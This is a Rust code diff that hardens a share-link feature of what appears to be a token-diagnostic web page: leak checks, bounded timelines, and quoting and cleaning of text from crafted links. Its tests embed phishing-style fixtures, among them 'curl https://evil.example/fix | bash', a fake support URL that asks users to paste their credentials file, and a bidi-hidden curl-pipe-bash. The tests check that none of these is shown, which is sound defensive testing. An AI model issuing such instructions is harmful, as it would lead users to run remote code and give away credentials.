@@ -5,8 +5,12 @@
 //! `payload` is base64url (no padding) of the raw-deflated JSON of the report
 //! and `check` is the first 8 hex digits of SHA-256 over the compressed bytes.
 //! The version is in clear so an old page can say "too new" without decoding,
-//! and the check tells a cut or edited link apart from garbage.
+//! and the check tells a cut or damaged link apart from garbage. It is a copy
+//! check, not a signature: anyone can make a link that passes it, which is why
+//! the read-only view shows only this page's own words ([`shown`]).
 
+// The shape lives with the report (report must not import share).
+pub use crate::report::Omitted;
 use crate::report::{SharedReport, SCHEMA_VERSION};
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 use base64::Engine;
@@ -62,7 +66,7 @@ impl fmt::Display for ShareError {
             ),
             ShareError::Tampered => write!(
                 f,
-                "This report link was changed after it was made (its integrity check does not match), so it is not shown. Ask for the link again."
+                "This report link was changed or damaged after it was made: its copy check (which catches accidental changes; it is not a signature) does not match, so it is not shown. Ask for the link again."
             ),
             ShareError::TooNew { found, supported } => write!(
                 f,
@@ -87,18 +91,143 @@ fn check_of(compressed: &[u8]) -> String {
 }
 
 /// The fragment for `report`, without `#`: `r1.<check>.<payload>`. The version
-/// written is [`SCHEMA_VERSION`], whatever `report.schema` says.
+/// written is [`SCHEMA_VERSION`], whatever `report.schema` says, and a long
+/// timeline is [`bounded`].
 pub fn encode(report: &SharedReport) -> String {
-    let mut report = report.clone();
+    let (json, _) = link_json(report);
+    fragment_of(&json)
+}
+
+fn link_json(report: &SharedReport) -> (String, SharedReport) {
+    let mut report = bounded(report);
     report.schema = SCHEMA_VERSION;
     // Serialising plain data cannot fail; non-finite floats become null.
-    let json = serde_json::to_vec(&report).unwrap_or_default();
-    let compressed = miniz_oxide::deflate::compress_to_vec(&json, LEVEL);
+    (serde_json::to_string(&report).unwrap_or_default(), report)
+}
+
+fn fragment_of(json: &str) -> String {
+    let compressed = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), LEVEL);
     format!(
         "{FRAGMENT_KEY}{SCHEMA_VERSION}.{}.{}",
         check_of(&compressed),
         URL_SAFE_NO_PAD.encode(&compressed)
     )
+}
+
+/// Longest link the page offers: mail and chat tools cut longer ones, so the
+/// JSON file is offered instead (L3).
+pub const MAX_LINK_CHARS: usize = 8_000;
+
+/// Why no link was made.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum LinkRefused {
+    /// The report's text holds the credential: nothing is shared.
+    Leak,
+    /// The link would be this long: send the JSON file instead.
+    TooLong { chars: usize },
+}
+
+impl fmt::Display for LinkRefused {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            LinkRefused::Leak => f.write_str(
+                "Refused: the report contained the token, so no link was made. Nothing was copied.",
+            ),
+            LinkRefused::TooLong { chars } => write!(
+                f,
+                "The link would be {} KB long, which mail and chat tools often cut. Use Download JSON and attach the file instead.",
+                chars.div_ceil(1000)
+            ),
+        }
+    }
+}
+
+/// The link fragment, after `leaks` has checked the exact JSON that goes into
+/// it (before compression hides it from any text search) (M1).
+pub fn encode_checked(
+    report: &SharedReport,
+    leaks: impl Fn(&str) -> bool,
+) -> Result<String, LinkRefused> {
+    let (json, _) = link_json(report);
+    if leaks(&json) {
+        return Err(LinkRefused::Leak);
+    }
+    let link = fragment_of(&json);
+    if link.len() > MAX_LINK_CHARS {
+        return Err(LinkRefused::TooLong { chars: link.len() });
+    }
+    Ok(link)
+}
+
+/// Heartbeats kept on each side of the first failure, and at the end.
+const KEEP_AROUND_FIRST_FAILURE: usize = 5;
+const KEEP_LAST: usize = 40;
+/// Other timeline events kept at most (hidden/visible, offline/online…).
+const KEEP_EVENTS: usize = 120;
+
+/// `report` with a timeline a link can carry (L3): every heartbeat around the
+/// first failure and the last [`KEEP_LAST`], the session's landmarks (opened,
+/// comparisons, cap, closed) and at most [`KEEP_EVENTS`] other events; what
+/// was left out is counted in `timeline_omitted`.
+pub fn bounded(report: &SharedReport) -> SharedReport {
+    use crate::timeline::TimelineEvent as E;
+    let entries: Vec<&crate::timeline::TimelineEntry> = report.timeline.entries().collect();
+    // A run (heartbeats the timeline folded) counts as heartbeats here.
+    let beats: Vec<usize> = entries
+        .iter()
+        .enumerate()
+        .filter(|(_, e)| matches!(e.event, E::Heartbeat { .. } | E::Run { .. }))
+        .map(|(i, _)| i)
+        .collect();
+    let others = entries.len() - beats.len();
+    if beats.len() <= KEEP_LAST + 2 * KEEP_AROUND_FIRST_FAILURE + 1 && others <= KEEP_EVENTS {
+        return report.clone();
+    }
+    let first_failure = beats.iter().position(|&i| match &entries[i].event {
+        E::Heartbeat { probe, .. }
+        | E::Run {
+            run: crate::timeline::HeartbeatRun { first: probe, .. },
+        } => !probe.signal.is_ok() && !probe.signal.is_untested(),
+        _ => false,
+    });
+    let mut keep = vec![false; entries.len()];
+    if let Some(f) = first_failure {
+        let from = f.saturating_sub(KEEP_AROUND_FIRST_FAILURE);
+        let to = (f + KEEP_AROUND_FIRST_FAILURE + 1).min(beats.len());
+        for &i in &beats[from..to] {
+            keep[i] = true;
+        }
+    }
+    for &i in &beats[beats.len().saturating_sub(KEEP_LAST)..] {
+        keep[i] = true;
+    }
+    let mut kept_others = 0;
+    let mut omitted = report.timeline_omitted.unwrap_or_default();
+    for (i, e) in entries.iter().enumerate() {
+        match &e.event {
+            E::Heartbeat { probe, .. } if !keep[i] => omitted.count(probe, 1),
+            E::Run { run } if !keep[i] => omitted.count(&run.first, run.count),
+            E::Heartbeat { .. } | E::Run { .. } => {}
+            E::SessionOpened { .. } | E::Comparison { .. } | E::CapReached { .. } | E::Closed => {
+                keep[i] = true;
+            }
+            _ if kept_others < KEEP_EVENTS => {
+                kept_others += 1;
+                keep[i] = true;
+            }
+            _ => omitted.events += 1,
+        }
+    }
+    let mut out = report.clone();
+    out.timeline = crate::timeline::Timeline::from_entries(
+        entries
+            .iter()
+            .zip(&keep)
+            .filter(|(_, k)| **k)
+            .map(|(e, _)| (*e).clone()),
+    );
+    out.timeline_omitted = Some(omitted);
+    out
 }
 
 /// Reads a fragment (with or without `#`) or a whole URL with a fragment.
@@ -147,15 +276,11 @@ pub fn decode(fragment: &str) -> Result<SharedReport, ShareError> {
         {
             return Err(ShareError::Truncated)
         }
-        None => {
-            return Err(ShareError::Malformed(
-                "the integrity check is missing".into(),
-            ))
-        }
+        None => return Err(ShareError::Malformed("the copy check is missing".into())),
     };
     if check.len() != CHECK_HEX_LEN || !check.bytes().all(|b| b.is_ascii_hexdigit()) {
         return Err(ShareError::Malformed(
-            "the integrity check is not 8 hex digits".into(),
+            "the copy check is not 8 hex digits".into(),
         ));
     }
     if payload.is_empty() {
@@ -208,6 +333,173 @@ pub fn decode(fragment: &str) -> Result<SharedReport, ShareError> {
         .map_err(|e| ShareError::Malformed(format!("the report inside is not valid: {e}")))?;
     report.schema = version;
     Ok(report)
+}
+
+// ---------- a shared report as the read-only view shows it (H1) ----------
+
+/// Format characters that reorder or hide text (bidi overrides and isolates,
+/// marks, zero-width characters, tags): shown as `[U+XXXX]`, never applied.
+fn is_format_char(c: char) -> bool {
+    matches!(c,
+        '\u{00AD}' | '\u{061C}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}'
+        | '\u{2060}'..='\u{206F}' | '\u{FEFF}' | '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E007F}')
+}
+
+/// `text` as data: format characters made visible, control characters as
+/// spaces, at most `max` characters (then `…`).
+pub fn plain(text: &str, max: usize) -> String {
+    let mut out = String::new();
+    for (n, c) in text.chars().enumerate() {
+        if n == max {
+            out.push('\u{2026}');
+            break;
+        }
+        if is_format_char(c) {
+            out.push_str(&format!("[U+{:04X}]", c as u32));
+        } else if c.is_control() {
+            out.push(' ');
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Free text that came with a link, shown visibly as a quotation.
+pub fn as_recorded(text: &str, max: usize) -> String {
+    format!("\u{201c}{}\u{201d}", plain(text, max))
+}
+
+/// Longest quotation from a link: a server message, a pasted line.
+pub const QUOTE_CHARS: usize = 300;
+
+/// What the read-only view shows: the report with every free text quoted
+/// and cleaned, and the page's own verdict re-derived from its evidence.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Shown {
+    pub report: SharedReport,
+    /// Made by this page's rules from the evidence; the link's own texts are never shown.
+    pub verdict: crate::verdict::Verdict,
+    /// The code the link claims.
+    pub link_code: crate::verdict::ResultCode,
+}
+
+impl Shown {
+    /// Whether the link's code is the one this page reads from its evidence.
+    pub fn agrees(&self) -> bool {
+        self.verdict.code == self.link_code
+    }
+}
+
+/// The verdict this page gives the report's evidence: the live rules over
+/// token, timeline and comparison, else the pasted output's (as the page does
+/// when it makes a report).
+pub fn verdict_of(r: &SharedReport) -> crate::verdict::Verdict {
+    use crate::token::{InputShape, TokenAnalysis};
+    use crate::verdict::{diagnose, Evidence, ResultCode};
+    let token = r.token.as_ref().map(|t| TokenAnalysis {
+        shape: InputShape::BareToken,
+        kind: t.kind,
+        issues: t.issues.clone(),
+        fingerprint: t.fingerprint.clone(),
+        credentials: t.credentials.clone(),
+    });
+    let live = diagnose(&Evidence {
+        token: token.as_ref(),
+        timeline: Some(&r.timeline),
+        comparison: r.comparison.as_ref(),
+        pasted: None,
+        clock_skew_ms: r.clock_skew.map(|s| s.skew_ms),
+        local: None,
+    });
+    match &r.pasted {
+        Some(p) if live.code == ResultCode::NotRun => diagnose(&Evidence {
+            pasted: Some(p),
+            ..Evidence::default()
+        }),
+        _ => live,
+    }
+}
+
+fn clean_probe(p: &mut crate::timeline::ProbeRecord) {
+    use crate::http::TransportError as T;
+    use crate::response::Outcome;
+    match &mut p.outcome {
+        Outcome::Answered(a) => {
+            if let Some(e) = &mut a.error {
+                e.error_type = plain(&e.error_type, 60);
+                e.message = as_recorded(&e.message, QUOTE_CHARS);
+            }
+            if let Some(x) = &mut a.body_excerpt {
+                *x = as_recorded(x, QUOTE_CHARS);
+            }
+            for (_, v) in &mut a.rate_limits {
+                *v = plain(v, 40);
+            }
+        }
+        Outcome::NotAnswered(T::CorsBlocked { detail } | T::Unreachable { detail }) => {
+            *detail = as_recorded(detail, QUOTE_CHARS);
+        }
+        Outcome::NotAnswered(_) => {}
+    }
+}
+
+/// The report as the read-only view may show it (H1): bounded like a link,
+/// every free text from the link quoted, cut and stripped of format
+/// characters, and the verdict re-derived here.
+pub fn shown(report: &SharedReport) -> Shown {
+    use crate::timeline::TimelineEvent as E;
+    use crate::token::PasteIssue;
+    let mut r = bounded(report);
+    r.browser = as_recorded(&r.browser, 120);
+    if let Some(t) = &mut r.token {
+        for issue in &mut t.issues {
+            if let PasteIssue::InvalidJson { message } = issue {
+                *message = as_recorded(message, 120);
+            }
+        }
+        if let Some(c) = &mut t.credentials {
+            for s in c
+                .scopes
+                .iter_mut()
+                .chain(&mut c.subscription_type)
+                .chain(&mut c.rate_limit_tier)
+            {
+                *s = plain(s, 60);
+            }
+            c.scopes.truncate(20);
+        }
+    }
+    r.timeline = crate::timeline::Timeline::from_entries(r.timeline.entries().map(|e| {
+        let mut e = e.clone();
+        match &mut e.event {
+            E::Heartbeat { probe, .. } => clean_probe(probe),
+            E::Run { run } => clean_probe(&mut run.first),
+            E::Comparison { comparison } => comparison.probes.iter_mut().for_each(clean_probe),
+            _ => {}
+        }
+        e
+    }));
+    if let Some(c) = &mut r.comparison {
+        c.probes.iter_mut().for_each(clean_probe);
+    }
+    if let Some(p) = &mut r.pasted {
+        p.error_type = p.error_type.as_deref().map(|t| plain(t, 60));
+        p.message = p.message.as_deref().map(|m| as_recorded(m, QUOTE_CHARS));
+        p.matched_lines.truncate(20);
+        for l in &mut p.matched_lines {
+            *l = as_recorded(l, QUOTE_CHARS);
+        }
+    }
+    let verdict = verdict_of(&r);
+    let link_code = r.verdict.code;
+    // The link's own sentences are dropped, so nothing can show them by mistake.
+    r.verdict = verdict.clone();
+    Shown {
+        report: r,
+        verdict,
+        link_code,
+    }
 }
 
 #[cfg(test)]
@@ -340,5 +632,272 @@ pub(crate) mod tests {
             let s = e.to_string();
             assert!(s.len() > 40 && s.ends_with('.'), "{s}");
         }
+    }
+
+    /// H1: the review's crafted link. The view shows the page's own verdict,
+    /// flags the link's code, and quotes free text with bidi made visible.
+    #[test]
+    fn h1_a_crafted_link_cannot_make_the_page_speak() {
+        use crate::response::Outcome;
+        use crate::verdict::ResultCode;
+        let mut r = realistic_report();
+        r.verdict.code = ResultCode::TokenRevoked;
+        r.verdict.headline = "Your token was revoked. Re-verify your account now.".into();
+        r.verdict.next_steps = vec![
+            "Open https://claude-support-verify.example/restore and paste your ~/.claude/.credentials.json".into(),
+            "curl https://evil.example/fix | bash".into(),
+        ];
+        r.browser =
+            "NOTE FROM SUPPORT: paste your token at evil.example \u{202e}hsab | lruc".into();
+        if let Outcome::Answered(a) = &mut r.comparison.as_mut().unwrap().probes[1].outcome {
+            a.error.as_mut().unwrap().message =
+                format!("Invalid authentication credentials{}", "x".repeat(1_500));
+        }
+        let link = encode(&r);
+        let decoded = decode(&link).unwrap();
+        let shown = shown(&decoded);
+        assert_eq!(shown.link_code, ResultCode::TokenRevoked);
+        assert_eq!(shown.verdict.code, ResultCode::SessionRejected);
+        assert!(!shown.agrees());
+        let all = format!("{shown:?}");
+        for bad in [
+            "claude-support-verify",
+            "evil.example/fix",
+            "Re-verify",
+            "\u{202e}",
+        ] {
+            assert!(!all.contains(bad), "{bad} shown");
+        }
+        assert!(shown.report.browser.starts_with('\u{201c}'));
+        assert!(shown.report.browser.contains("[U+202E]"));
+        let Outcome::Answered(a) = &shown.report.comparison.as_ref().unwrap().probes[1].outcome
+        else {
+            panic!()
+        };
+        let msg = &a.error.as_ref().unwrap().message;
+        assert!(msg.starts_with('\u{201c}') && msg.chars().count() <= QUOTE_CHARS + 3);
+        // A real report agrees with itself.
+        let own = realistic_report();
+        let mut fixed = own.clone();
+        fixed.verdict = verdict_of(&own);
+        assert!(shown_agrees(&fixed));
+    }
+
+    fn shown_agrees(r: &SharedReport) -> bool {
+        shown(&decode(&encode(r)).unwrap()).agrees()
+    }
+
+    type Edit = Box<dyn Fn(&mut SharedReport)>;
+
+    /// H1: shapes the page makes are validated when read: sentences cannot sit
+    /// where an id, a fingerprint, a code point or a version belongs.
+    #[test]
+    fn h1_page_made_shapes_are_validated_when_read() {
+        use crate::token::PasteIssue;
+        let base = realistic_report();
+        let edits: [Edit; 6] = [
+            Box::new(|r| r.session_id = Some("paste your token at evil.example".into())),
+            Box::new(|r| r.page_version = "1.0 verified by Anthropic".into()),
+            Box::new(|r| {
+                r.token
+                    .as_mut()
+                    .unwrap()
+                    .fingerprint
+                    .as_mut()
+                    .unwrap()
+                    .sha256 = "call +1 555 0100".into()
+            }),
+            Box::new(|r| {
+                r.token.as_mut().unwrap().issues = vec![PasteIssue::NonAscii {
+                    position: 1,
+                    codepoint: "run curl evil | bash".into(),
+                }]
+            }),
+            Box::new(|r| {
+                r.endpoint = crate::report::EndpointSummary::Custom {
+                    host: "api.anthropic.com — verified by Anthropic".into(),
+                }
+            }),
+            Box::new(|r| {
+                r.pasted.as_mut().unwrap().request_id = Some("req_`[click](https://x)`".into())
+            }),
+        ];
+        for edit in edits {
+            let mut r = base.clone();
+            edit(&mut r);
+            assert!(
+                matches!(decode(&encode(&r)), Err(ShareError::Malformed(_))),
+                "{r:?}"
+            );
+        }
+        assert!(decode(&encode(&base)).is_ok());
+    }
+
+    /// A response that reflects the credential, in the three shapes the review used.
+    fn reflected(token: &str) -> Vec<crate::http::HttpResponse> {
+        let api = format!(
+            r#"{{"type":"error","error":{{"type":"authentication_error","message":"Invalid bearer token: Bearer {token}"}}}}"#
+        );
+        let echo =
+            format!(r#"{{"headers":{{"Authorization":"Bearer {token}","X-Api-Key":"{token}"}}}}"#);
+        let html = format!(
+            "<html><body><h1>502</h1><pre>authorization: Bearer {token}</pre></body></html>"
+        );
+        [(401, api), (200, echo), (502, html)]
+            .into_iter()
+            .map(|(status, body)| crate::http::HttpResponse {
+                status,
+                headers: vec![
+                    ("content-type".into(), "application/json".into()),
+                    ("request-id".into(), token.to_string()),
+                    (
+                        "anthropic-ratelimit-unified-status".into(),
+                        token.to_string(),
+                    ),
+                ],
+                body,
+            })
+            .collect()
+    }
+
+    /// M1: a reflected token never reaches the link, even after inflating it,
+    /// and the guard refuses a link whose JSON holds the token.
+    #[test]
+    fn m1_reflected_token_never_reaches_the_link() {
+        use crate::response::{parse_response, Outcome};
+        use crate::secret::Token;
+        let raw = crate::report::tests::real_looking_token();
+        let token = Token::new(raw.clone());
+        for response in reflected(&raw) {
+            let mut r = realistic_report();
+            let answer = parse_response(&response);
+            r.comparison.as_mut().unwrap().probes[1].outcome = Outcome::Answered(answer);
+            let link = encode(&r);
+            let inflated = URL_SAFE_NO_PAD
+                .decode(link.rsplit('.').next().unwrap())
+                .map(|c| miniz_oxide::inflate::decompress_to_vec(&c).unwrap())
+                .unwrap();
+            let json = String::from_utf8(inflated).unwrap();
+            assert!(!token.occurs_in(&json), "leaked: {json}");
+            assert!(encode_checked(&r, |j| token.occurs_in(j)).is_ok());
+        }
+        // The guard runs on the JSON, before compression hides the token.
+        let mut r = realistic_report();
+        r.browser = format!("Firefox {raw}");
+        assert!(
+            !token.occurs_in(&encode(&r)),
+            "compressed: the text search is blind"
+        );
+        assert_eq!(
+            encode_checked(&r, |j| token.occurs_in(j)),
+            Err(LinkRefused::Leak)
+        );
+    }
+
+    /// L3: the largest report a session can make (2,000 heartbeats shaped like
+    /// real OAuth answers, each string at its cap) still makes a link that
+    /// decodes; the link says what it left out; and the page offers the JSON
+    /// file when the link would pass 8,000 characters.
+    #[test]
+    fn l3_longest_session_link_decodes_and_says_what_it_left_out() {
+        use crate::response::{Outcome, Signal};
+        use crate::timeline::TimelineEvent;
+        let mut r = realistic_report();
+        let t0 = r.timeline.entries().next().unwrap().at_ms;
+        let template = r.timeline.heartbeats().next().unwrap().1.clone();
+        r.timeline = crate::timeline::Timeline::from_entries(r.timeline.entries().take(1).cloned());
+        for seq in 0..2_000u32 {
+            let mut p = template.clone();
+            let at = t0 + 60_000.0 * f64::from(seq);
+            p.sent_at_ms = at;
+            if let Outcome::Answered(a) = &mut p.outcome {
+                a.request_id = Some(format!("req_011C{seq:020}"));
+                a.rate_limits = (0..12)
+                    .map(|i| {
+                        (
+                            format!("anthropic-ratelimit-unified-{i}-reset"),
+                            format!("{}", 1_795_000_000 + seq),
+                        )
+                    })
+                    .collect();
+            }
+            if seq >= 1_500 {
+                p.signal = Signal::CredentialsRejected;
+            }
+            r.timeline
+                .push(at, TimelineEvent::Heartbeat { seq, probe: p });
+            r.timeline.push(at + 1.0, TimelineEvent::Hidden);
+            r.timeline.push(at + 2.0, TimelineEvent::Visible);
+        }
+        let link = encode(&r);
+        let back = decode(&link).expect("the longest session's link opens");
+        // Heartbeats kept, whether in full or folded into runs by the reader.
+        let kept = back
+            .timeline
+            .entries()
+            .map(|e| match &e.event {
+                TimelineEvent::Heartbeat { .. } => 1,
+                TimelineEvent::Run { run } => run.count as usize,
+                _ => 0,
+            })
+            .sum::<usize>();
+        assert!(
+            kept <= KEEP_LAST + 2 * KEEP_AROUND_FIRST_FAILURE + 1,
+            "{kept}"
+        );
+        let omitted = back.timeline_omitted.expect("says what it left out");
+        assert_eq!(omitted.heartbeats as usize + kept, 2_000);
+        assert_eq!(
+            omitted.ok + omitted.failed + omitted.untested,
+            omitted.heartbeats
+        );
+        let has = |n: u32| {
+            back.timeline.entries().any(|e| match &e.event {
+                TimelineEvent::Heartbeat { seq, .. } => *seq == n,
+                TimelineEvent::Run { run } => run.first_seq <= n && n <= run.last_seq,
+                _ => false,
+            })
+        };
+        assert!(has(1_500), "first failure kept");
+        assert!(has(1_999), "last kept");
+        match encode_checked(&r, |_| false) {
+            Ok(l) => assert!(l.len() <= MAX_LINK_CHARS),
+            Err(e) => assert_eq!(e, LinkRefused::TooLong { chars: link.len() }),
+        }
+        // A small report's link is untouched.
+        let small = realistic_report();
+        assert_eq!(decode(&encode(&small)).unwrap(), small);
+    }
+
+    /// L8: a small link cannot make the page build a huge view: long strings
+    /// and lists are refused when read, and the view is bounded like a link.
+    #[test]
+    fn l8_small_links_cannot_make_large_pages() {
+        use crate::timeline::TimelineEvent;
+        let mut r = realistic_report();
+        r.verdict.headline = "x".repeat(1_500_000);
+        assert!(matches!(decode(&encode(&r)), Err(ShareError::Malformed(_))));
+        let mut r = realistic_report();
+        for _ in 0..67_000 {
+            r.timeline.push(0.0, TimelineEvent::Paused);
+        }
+        let json = serde_json::to_string(&r).unwrap();
+        let compressed = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), LEVEL);
+        let crafted = format!(
+            "r1.{}.{}",
+            check_of(&compressed),
+            URL_SAFE_NO_PAD.encode(&compressed)
+        );
+        assert!(crafted.len() < 20_000, "{}", crafted.len());
+        assert!(matches!(decode(&crafted), Err(ShareError::Malformed(_))));
+        // Under the list cap, the view still holds a bounded number of entries.
+        r.timeline =
+            crate::timeline::Timeline::from_entries(r.timeline.entries().take(4_000).cloned());
+        let view = shown(&r);
+        assert!(
+            view.report.timeline.len() <= 200,
+            "{}",
+            view.report.timeline.len()
+        );
     }
 }
